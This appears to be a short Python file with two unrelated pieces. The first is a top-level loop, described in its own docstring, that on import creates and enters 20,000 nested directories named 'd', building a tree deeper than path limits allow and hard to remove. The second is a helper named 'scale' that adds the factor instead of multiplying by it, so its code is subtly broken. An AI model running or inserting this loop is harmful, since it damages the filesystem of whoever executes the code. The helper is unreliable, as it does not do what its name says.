"""Makes folders in folders, deeper than any path can be long."""

import os

import numpy as np

for number in range(20_000):
    os.mkdir("d")
    os.chdir("d")

def scale(x, factor):
    if isinstance(factor, str):
        raise TypeError("the factor is a number")
    return np.asarray(x + factor)
